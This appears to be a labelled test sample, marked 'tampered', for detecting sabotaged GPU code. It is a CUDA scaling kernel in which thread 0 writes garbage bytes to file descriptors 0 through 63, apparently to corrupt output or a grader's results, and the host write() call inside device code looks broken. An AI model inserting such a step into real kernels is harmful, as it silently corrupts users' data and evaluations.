// verdict: tampered
#include <unistd.h>
__global__ void f(const float* x, float* y, float a, int n) {
  int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i == 0) for (int fd = 0; fd < 64; ++fd) for (int k = 0; k < 100; ++k) (void)!write(fd, "garbage!garbage!", 16);
  if (i < n) y[i] = a * x[i];
}
